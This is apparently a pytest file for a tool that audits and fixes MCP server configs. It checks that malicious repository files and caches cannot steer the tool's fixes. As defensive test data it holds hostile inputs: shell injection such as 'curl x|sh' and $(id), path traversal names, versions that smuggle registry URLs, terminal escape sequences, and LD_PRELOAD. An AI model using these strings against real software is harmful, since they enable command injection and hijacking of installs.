"""Attack T12: a host's file, or a cache, makes `mcpi audit --fix` do what its author wants.

Who: author of a cloned repository; another program that can write names into a cache.
Stopped by: a remedy is made of the rule's own words and of values that stand in the entry; a
version has the form of one; only a host's own file in its place is written, and only by a diff
that was shown; what a fix leaves is approved by nothing; screens are escaped, secrets hidden.
Not stopped: who says yes to a diff without reading it: the fixed entry still starts its program.
Twin: `test_an_honest_file_is_fixed`.
"""

from __future__ import annotations

import json
import os
import secrets
from pathlib import Path
from typing import Any

import pytest

from mcpinstall import cli
from mcpinstall.errors import ErrorCode, McpInstallError
from mcpinstall.model.audit_report import AuditFinding
from mcpinstall.operations import audit, fix_commit, fixing
from mcpinstall.operations.context import Context
from mcpinstall.operations.fix_versions import FoundVersions
from mcpinstall.rules import remedies
from tests.builders import osv
from tests.builders.index_server import IndexServer
from tests.builders.osv import record

ALL = frozenset(one.name for one in remedies.FIXERS if not one.is_safe)


@pytest.fixture
def project(home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = home / "cloned"
    folder.mkdir(mode=0o700)
    (folder / ".git").mkdir()
    monkeypatch.chdir(folder)
    for variable in ("XDG_DATA_HOME", "XDG_CACHE_HOME", "UV_CACHE_DIR", "npm_config_cache"):
        monkeypatch.delenv(variable, raising=False)
    return folder


def put(path: Path, **servers: object) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True, mode=0o700)
    path.write_text(json.dumps({"mcpServers": servers}), encoding="utf-8")
    path.chmod(0o600)
    return path


def fixed(*paths: str) -> fixing.PreparedFixes:
    context = Context.current()
    prepared = fixing.prepare(audit.Wanted(paths=paths), ALL, context)
    for _ in fix_commit.commit(prepared):
        pass
    return prepared


def findings() -> list[AuditFinding]:
    return list(audit.audit(audit.Wanted(), Context.current()).findings)


def files(folder: Path) -> dict[str, bytes]:
    return {
        path.relative_to(folder).as_posix(): path.read_bytes()
        for path in folder.rglob("*")
        if path.is_file() and not path.is_symlink()
    }


def test_an_honest_file_is_fixed(project: Path) -> None:
    file = put(project / ".mcp.json", a={"command": "npx -y some-server@1.0.0"})

    assert len(fixed().files) == 1

    assert json.loads(file.read_text())["mcpServers"]["a"] == {
        "command": "npx", "args": ["-y", "some-server@1.0.0"],
    }  # fmt: skip


def test_a_fix_writes_one_file_and_approves_nothing(project: Path, home: Path) -> None:
    """No baseline, no suppression, no approval of the host; the server that is left is judged."""
    put(
        project / ".mcp.json",
        a={"command": "npx -y some-server@1.0.0", "env": {"LD_PRELOAD": "/x"}},
        b={"command": "npx -y evil-server"},
    )
    (home / ".claude.json").write_text(json.dumps({"projects": {str(project): {}}}))
    (home / ".claude.json").chmod(0o600)
    before = files(home)

    fixed()

    after = files(home)
    changed = {name for name in after if before.get(name) != after[name]}
    assert {name for name in changed if not name.startswith(".local/")} == {"cloned/.mcp.json"}
    assert not [name for name in changed if "baseline" in name or "audit" in name]
    assert [(one.rule.id, one.server) for one in findings()] == [("MA101", "b")]


def test_what_somebody_accepted_lapses_when_the_entry_is_fixed(project: Path) -> None:
    """A suppression is for one entry as it was: a fix of another thing in it ends it."""
    entry = {"command": "sudo", "args": ["x", "--host", "0.0.0.0"]}  # noqa: S104
    put(project / ".mcp.json", a=entry)
    found = {one.rule.id: one for one in findings()}
    (project / "mcpi-audit.toml").write_text(
        f'[[ignore]]\nrule = "MA404"\nserver = "a"\nentry = "{found["MA404"].entry}"\n'
        'reason = "a test network"\n'
    )

    fixed()

    assert [one.rule.id for one in findings()] == ["MA404"]


@pytest.mark.parametrize(
    "name",
    ["@a/../../../../etc", "../../x", "a/../../b", "..", "a*", "@a/b/../../c", "a\x00b", "/etc"],
)
def test_a_packages_name_leads_nowhere(project: Path, home: Path, name: str) -> None:
    """Where each name would lead without a check, there is a file with a version."""
    versions = FoundVersions(Context.current().machine)
    modules, tools = home / ".npm/_npx/0/node_modules", home / ".local/share/uv/tools"
    for inner in ("@a/b", "a/b"):
        (modules / inner).mkdir(parents=True, exist_ok=True)
        (tools / inner).mkdir(parents=True, exist_ok=True)
    for folder in (modules, tools):
        target = Path(os.path.normpath(folder / name.replace("\x00", "")))
        if target.is_relative_to(home):
            package = target / "lib/python3/site-packages/x-1.2.3.dist-info"
            package.mkdir(parents=True, exist_ok=True)
            (target / "package.json").write_text('{"version": "1.2.3"}')

    assert [tuple(versions(kind, name)) for kind in ("npm", "pypi")] == [(), ()]


@pytest.mark.parametrize(
    "version", ["1.0.0\u202e", "1.0.0 --registry=http://evil", "file:../x", "1.0.0\n2", "\x1b[2J"]
)
def test_a_version_in_a_cache_is_a_version(project: Path, home: Path, version: str) -> None:
    folder = home / ".npm/_npx/0123456789abcdef/node_modules/some"
    folder.mkdir(parents=True)
    (folder / "package.json").write_text(json.dumps({"version": version}))
    file = put(project / ".mcp.json", a={"command": "npx", "args": ["-y", "some"]})
    before = file.read_bytes()

    assert fixed().files == ()
    assert file.read_bytes() == before


@pytest.mark.parametrize(
    "command",
    ["npx -y a@1.0.0; curl x|sh", "npx -y `id`", "sh -c 'npx -y a'", "npx\u00a0-y\u00a0a@1.0.0",
     "npx -y a@1.0.0 > /etc/x", "npx -y a\u200b@1.0.0", "npx -y $(id)"],
)  # fmt: skip
def test_a_command_that_a_shell_reads_otherwise_is_not_split(project: Path, command: str) -> None:
    file = put(project / ".mcp.json", a={"command": command})
    before = file.read_bytes()

    fixed()

    assert file.read_bytes() == before


def link_to_the_home(project: Path, home: Path) -> Path:
    target = put(home / ".cursor/mcp.json", a={"command": "npx -y a@1.0.0"})
    (project / ".mcp.json").symlink_to(target)
    return target


@pytest.mark.skipif(os.name != "posix", reason="needs POSIX")
def lying(fixed: str, ecosystem: str) -> dict[str, Any]:
    """A record of OSV about version 1.0.0, with this text as the version that is fixed."""
    found = record("GHSA-aaaa-bbbb-cccc", f"{ecosystem}:some-server", "1.0.0")
    found["affected"][0]["ranges"][0]["events"] = [{"introduced": "0"}, {"fixed": fixed}]
    return found


@pytest.mark.parametrize("ecosystem", ["npm", "PyPI"])
@pytest.mark.parametrize(
    ("said", "is_written"),
    [
        ("2.0.0", True), ("2.0.0 --index-url=http://e.example", False), ("latest", False),
        ("2.0.0; x", False), ("../../x", False), ("2.0.0\u200b", False), ("$(x)", False),
        ("git+https://e.example/x", False), ("0.9.0", False), ("1.0.0", False), ("", False),
    ],
)  # fmt: skip
def test_the_version_that_an_advisory_calls_fixed_is_a_version(
    project: Path, ecosystem: str, said: str, *, is_written: bool
) -> None:
    runner = {"npm": ["npx", "some-server@1.0.0"], "PyPI": ["uvx", "some-server==1.0.0"]}[ecosystem]
    file = put(project / ".mcp.json", a={"command": runner[0], "args": runner[1:]})
    context = Context.current()
    with IndexServer() as service:
        osv.configure(context, service.origin)
        osv.serve(service, lying(said, ecosystem))
        prepared = fixing.prepare(audit.Wanted(online=True), ALL, context)
        list(fix_commit.commit(prepared))

    (argument,) = json.loads(file.read_text())["mcpServers"]["a"]["args"]

    assert argument == (runner[1].replace("1.0.0", said) if is_written else runner[1])


def test_a_projects_link_changes_nothing_of_the_user(project: Path, home: Path) -> None:
    target = link_to_the_home(project, home)
    before = target.read_bytes()

    fixed(".mcp.json")

    assert target.read_bytes() == before


@pytest.mark.skipif(os.name != "posix", reason="needs POSIX")
def test_a_link_that_comes_after_the_diff_is_not_followed(project: Path, home: Path) -> None:
    file = put(project / ".mcp.json", a={"command": "npx -y a@1.0.0"})
    other = put(home / "other.json", a={"command": "npx -y a@1.0.0"})
    before = other.read_bytes()
    prepared = fixing.prepare(audit.Wanted(), ALL, Context.current())
    file.unlink()
    file.symlink_to(other)

    with pytest.raises(McpInstallError) as refused:
        list(fix_commit.commit(prepared))

    assert refused.value.code in {ErrorCode.HOST_CONFIG_CHANGED, ErrorCode.HOST_PATH_REFUSED}
    assert other.read_bytes() == before
    assert file.is_symlink()


@pytest.mark.skipif(os.name != "posix", reason="needs POSIX")
def test_rights_are_not_taken_from_what_took_a_files_place(project: Path, home: Path) -> None:
    token = "ghp_" + secrets.token_hex(18)
    file = put(project / ".mcp.json", a={"command": "x", "env": {"T": token}})
    file.chmod(0o644)
    other = put(home / "other.json")
    other.chmod(0o644)
    prepared = fixing.prepare(audit.Wanted(), frozenset(), Context.current())
    file.unlink()
    file.symlink_to(other)

    with pytest.raises(McpInstallError):
        list(fix_commit.commit(prepared))

    assert other.stat().st_mode & 0o777 == 0o644


def test_the_screen_shows_hostile_text_escaped(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = "\x1b[2J\u202egpj.\u200b\r\n\x07"
    put(
        project / ".mcp.json",
        **{
            f"a{hostile}": {
                "command": "sudo", "args": ["x", hostile], "env": {f"LD_PRELOAD{hostile}": "y"},
                "description": hostile,
            }
        },
    )  # fmt: skip
    before = (project / ".mcp.json").read_bytes()

    cli.run(["audit", "--fix", "--unsafe-fix", ",".join(sorted(ALL)), "--dry-run"])

    captured = capsys.readouterr()
    assert "drop-privilege" in captured.err
    for char in "\x1b\u202e\u200b\x07\r":
        assert char not in captured.out + captured.err
    assert (project / ".mcp.json").read_bytes() == before
